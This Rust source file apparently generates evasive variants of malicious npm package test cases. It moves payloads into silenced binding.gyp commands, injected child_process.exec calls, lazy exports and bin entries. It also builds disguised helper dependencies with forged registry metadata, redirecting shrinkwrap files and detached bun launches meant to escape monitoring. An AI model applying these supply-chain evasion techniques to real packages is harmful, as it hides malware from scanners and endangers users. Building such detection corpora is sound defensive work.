//! Changes of place: what sets a payload going, which package carries it, what runs it. Scripts stay as they are.
//! A change is refused (`None`) where the case has nothing of the kind to move.
use serde_json::{Map, Value, json};

use crate::{
    case::{Mutable, Release, folder_of},
    code::{is_script, quoted, read},
    dice::Dice,
    words::{hashbang, stands_alone},
};

/// What sets the payload going afterwards.
#[derive(Clone, Copy, Debug)]
pub enum Trigger {
    /// An install script.
    Install,
    /// A command in a `binding.gyp`.
    Gyp,
    /// Being imported.
    Import,
    /// A command of the package.
    Bin,
    /// A function that somebody calls later.
    Lazy,
}

/// Moves what an install hook runs to another trigger, or what an import runs to a hook.
pub fn trigger(mut case: Mutable, to: Trigger) -> Option<Mutable> {
    let mut changed = false;
    for release in case.releases() {
        let hook = case.hook(&release);
        changed |= match (to, hook) {
            (Trigger::Install, None) if case.text("trigger") == "import" => hooked(&mut case, &release),
            (Trigger::Install, _) => false,
            (_, None) => false,
            (Trigger::Gyp, Some(hook)) => {
                case.unhook(&release);
                let command = hook.command.replace('"', "\\\"").replace('\'', "\\'");
                case.put(
                    release.file("binding.gyp"),
                    format!(
                        "{{\n  'targets': [\n    {{ 'target_name': 'addon', 'type': 'none', 'sources': ['<!({command} > /dev/null 2>&1 && echo addon.c)'] }}\n  ]\n}}\n"
                    ),
                );
                true
            }
            (Trigger::Import, Some(hook)) => {
                imported(&mut case, &release, hook.file.as_deref(), &hook.command, false)
            }
            (Trigger::Lazy, Some(hook)) => {
                imported(&mut case, &release, hook.file.as_deref(), &hook.command, true)
            }
            (Trigger::Bin, Some(hook)) => {
                let Some(file) = hook.file else { continue };
                case.unhook(&release);
                let mut manifest = case.manifest(&release);
                let bare = release.name.rsplit('/').next().unwrap_or_default();
                manifest.insert("bin".to_owned(), json!({bare: file}));
                case.put_manifest(&release, manifest);
                let path = release.file(&file);
                let text = case.read_text(&path).map(|text| hashbang(text).1.to_owned());
                case.put(path, format!("#!/usr/bin/env node\n{}", text.unwrap_or_default()));
                true
            }
        };
    }
    let name = match to {
        Trigger::Install => "install",
        Trigger::Gyp => "gyp",
        Trigger::Import => "import",
        Trigger::Bin => "bin",
        Trigger::Lazy => "lazy",
    };
    case.case.insert("trigger".to_owned(), json!(name));
    changed.then_some(case)
}

/// A hook that runs the file an import would.
fn hooked(case: &mut Mutable, release: &Release) -> bool {
    let carriers = case.carriers();
    let below = format!("{}/", release.folder);
    let entry = case.entry(release);
    let carrier = carriers.iter().filter(|path| path.starts_with(&below));
    let Some(carrier) = carrier
        .max_by_key(|path| (Some(*path) == entry.as_ref(), path.len()))
        .cloned()
    else {
        return false;
    };
    let mut manifest = case.manifest(release);
    let file = carrier.strip_prefix(&below).unwrap_or(&carrier).to_owned();
    let scripts = manifest.entry("scripts").or_insert_with(|| json!({}));
    if let Some(scripts) = scripts.as_object_mut() {
        scripts.insert("postinstall".to_owned(), json!(format!("node {file}")));
    }
    case.put_manifest(release, manifest);
    true
}

/// An entry point that loads the hook's file, or runs the hook's command, at once or when asked.
fn imported(case: &mut Mutable, release: &Release, file: Option<&str>, command: &str, later: bool) -> bool {
    let Some(entry) = case.entry(release) else {
        return false;
    };
    let Some(text) = case.read_text(&entry).map(str::to_owned) else {
        return false;
    };
    let Some(pieces) = read(&text) else { return false };
    let below = entry
        .strip_prefix(&format!("{}/", release.folder))
        .unwrap_or(&entry);
    if file == Some(below) || (file.is_none() && pieces.is_module) {
        return false;
    }
    let up = "../".repeat(below.matches('/').count());
    let specifier = file.map(|file| format!("{}{file}", if up.is_empty() { "./" } else { &up }));
    let text = match (specifier, pieces.is_module, later) {
        (Some(specifier), true, false) => format!("import {};\n{text}", quoted(&specifier)),
        (Some(specifier), true, true) => {
            format!(
                "{text}\nexport function warmUp() {{ return import({}); }}\n",
                quoted(&specifier)
            )
        }
        (Some(specifier), false, false) => format!("require({});\n{text}", quoted(&specifier)),
        (Some(specifier), false, true) => format!(
            "{text}\nmodule.exports.warmUp = function () {{ return require({}); }};\n",
            quoted(&specifier)
        ),
        (None, _, false) => format!("require(\"child_process\").exec({});\n{text}", quoted(command)),
        (None, _, true) => format!(
            "{text}\nmodule.exports.warmUp = function () {{ require(\"child_process\").exec({}); }};\n",
            quoted(command)
        ),
    };
    if !is_script(&text) {
        return false;
    }
    case.unhook(release);
    case.put(entry, text);
    true
}

/// Where the payload's new package comes from.
#[derive(Clone, Copy, Debug)]
pub enum Carrier {
    /// A new dependency.
    Dependency,
    /// A new optional dependency.
    Optional,
    /// A dependency on a repository.
    Git,
    /// A dependency on an address.
    Address,
    /// A shrinkwrap that points a known name elsewhere.
    Shrinkwrap,
}

/// Moves the payload into a package of its own.
pub fn carried(mut case: Mutable, by: Carrier, dice: &mut Dice) -> Option<Mutable> {
    let mut changed = false;
    let carriers = case.carriers();
    for release in case.releases() {
        let bare = release.name.rsplit('/').next().unwrap_or_default();
        let helper = format!(
            "{bare}-{}",
            dice.of(&["runtime", "internals", "compat", "bridge"])
        );
        let alone = |case: &Mutable, path: &str| {
            case.read_text(path)
                .and_then(read)
                .is_some_and(|pieces| stands_alone(&pieces))
        };
        let hook = case
            .hook(&release)
            .and_then(|hook| Some((hook.name, release.file(&hook.file?))));
        let moved = match hook {
            Some((name, path)) if alone(&case, &path) && case.entry(&release).as_ref() != Some(&path) => {
                case.unhook(&release);
                case.files.remove(&path).map(|text| (text, Some(name)))
            }
            Some(_) => None,
            None => {
                let fresh = carriers
                    .iter()
                    .filter(|path| path.starts_with(&format!("{}/", release.folder)));
                let path = fresh
                    .filter(|path| case.is_new(path) && alone(&case, path))
                    .max_by_key(|path| path.len());
                path.cloned().and_then(|path| {
                    let text = case.files.remove(&path)?;
                    case.put(path, format!("module.exports = require({});\n", quoted(&helper)));
                    Some((text, None))
                })
            }
        };
        let Some((text, hook)) = moved else { continue };
        changed = true;
        let mut manifest = case.manifest(&release);
        let commit: String = dice.bytes(20).iter().map(|byte| format!("{byte:02x}")).collect();
        let address = format!("https://files.example/pkg/{helper}-1.0.2.tgz");
        let (field, range) = match by {
            Carrier::Dependency | Carrier::Shrinkwrap => ("dependencies", "^1.0.0".to_owned()),
            Carrier::Optional => ("optionalDependencies", "^1.0.0".to_owned()),
            Carrier::Git => (
                "dependencies",
                format!("git+https://code.example/{bare}/{helper}.git#{commit}"),
            ),
            Carrier::Address => ("dependencies", address.clone()),
        };
        let list = manifest.entry(field).or_insert_with(|| json!({}));
        if let Some(list) = list.as_object_mut() {
            list.insert(helper.clone(), json!(range));
        }
        let published = published(&case, &release);
        match by {
            Carrier::Dependency | Carrier::Optional => {
                package(&mut case, &helper, &published, &text, hook);
                companions(&mut case, &release, &helper, &text);
            }
            // The name is known and clean; what is fetched is elsewhere.
            Carrier::Shrinkwrap => {
                package(
                    &mut case,
                    &helper,
                    "2019-03-04T10:00:00Z",
                    b"module.exports = {};\n",
                    None,
                );
                let lock = json!({
                    "name": release.name, "version": release.version, "lockfileVersion": 3, "requires": true,
                    "packages": {
                        "": {"name": release.name, "version": release.version, "dependencies": {&helper: "^1.0.0"}},
                        format!("node_modules/{helper}"): {"version": "1.0.2", "resolved": address, "hasInstallScript": true},
                    },
                });
                case.put(release.file("npm-shrinkwrap.json"), format!("{lock:#}\n"));
            }
            Carrier::Git | Carrier::Address => {}
        }
        case.put_manifest(&release, manifest);
        if matches!(by, Carrier::Dependency | Carrier::Optional)
            && let Some(bad) = case.case.get_mut("bad").and_then(Value::as_array_mut)
        {
            bad.push(json!(format!("{helper}@1.0.2")));
        }
    }
    changed.then_some(case)
}

fn published(case: &Mutable, release: &Release) -> String {
    let path = format!("registry/{}/packument.json", folder_of(&release.name));
    let packument: Map<String, Value> = case
        .files
        .get(&path)
        .and_then(|bytes| serde_json::from_slice(bytes).ok())
        .unwrap_or_default();
    let time = packument.get("time").and_then(|time| time.get(&release.version));
    time.and_then(Value::as_str)
        .unwrap_or(case.text("as_of"))
        .to_owned()
}

fn package(case: &mut Mutable, name: &str, time: &str, text: &[u8], hook: Option<&str>) {
    let folder = format!("registry/{}", folder_of(name));
    let packument = json!({
        "name": name,
        "dist-tags": {"latest": "1.0.2"},
        "time": {"created": time, "1.0.2": time},
        "maintainers": [{"name": "sdk-tools", "email": "sdk-tools@mail.example"}],
        "versions": {"1.0.2": {"_npmUser": {"name": "sdk-tools", "email": "sdk-tools@mail.example"}}},
    });
    let mut manifest = json!({"name": name, "version": "1.0.2", "description": "Internal helpers", "main": "index.js", "license": "MIT"});
    if let (Some(hook), Some(manifest)) = (hook, manifest.as_object_mut()) {
        manifest.insert("scripts".to_owned(), json!({hook: "node index.js"}));
    }
    case.put(format!("{folder}/packument.json"), format!("{packument:#}\n"));
    case.put(format!("{folder}/1.0.2/package.json"), format!("{manifest:#}\n"));
    case.put(format!("{folder}/1.0.2/index.js"), text);
}

/// What the script starts or reads by name goes along with it: without that it would do nothing.
fn companions(case: &mut Mutable, release: &Release, helper: &str, text: &[u8]) {
    let script = String::from_utf8_lossy(text);
    let below = format!("{}/", release.folder);
    let named = |path: &str| {
        let name = path.rsplit('/').next().unwrap_or_default();
        !name.is_empty()
            && !matches!(name, "package.json" | "README.md" | "index.js")
            && script.contains(name)
    };
    let mut moved: Vec<String> = Vec::new();
    for path in case.files.keys().filter(|path| path.starts_with(&below)) {
        if named(path) && case.is_new(path) {
            moved.push(path.clone());
        }
    }
    for path in moved {
        let inner = path.strip_prefix(&below).unwrap_or(&path).to_owned();
        if let Some(bytes) = case.files.remove(&path) {
            case.put(format!("registry/{}/1.0.2/{inner}", folder_of(helper)), bytes);
        }
    }
}

/// Another runtime than the one that is watched runs the payload.
pub fn other_runtime(mut case: Mutable) -> Option<Mutable> {
    let mut changed = false;
    let carriers = case.carriers();
    for release in case.releases() {
        if let Some(hook) = case.hook(&release) {
            let Some(file) = hook.file else { continue };
            let mut manifest = case.manifest(&release);
            if let Some(scripts) = manifest.get_mut("scripts").and_then(Value::as_object_mut) {
                scripts.insert(
                    hook.name.to_owned(),
                    json!(format!("npx --yes bun@1.2.4 run {file}")),
                );
            }
            case.put_manifest(&release, manifest);
            changed = true;
            continue;
        }
        let below = format!("{}/", release.folder);
        let fresh: Vec<String> = carriers
            .iter()
            .filter(|path| path.starts_with(&below) && case.is_new(path))
            .cloned()
            .collect();
        for path in fresh {
            let Some(text) = case.files.remove(&path) else {
                continue;
            };
            let (stem, ending) = path.rsplit_once('.').unwrap_or((&path, "js"));
            let moved = format!("{stem}.task.{ending}");
            let name = moved.rsplit('/').next().unwrap_or_default();
            case.put(
                path.clone(),
                format!(
                    "const path = require(\"path\");\nrequire(\"child_process\").spawn(\"bun\", [\"run\", path.join(__dirname, {})], {{ stdio: \"ignore\", detached: true }}).unref();\n",
                    quoted(name)
                ),
            );
            case.put(moved.clone(), text);
            changed = true;
        }
    }
    changed.then_some(case)
}
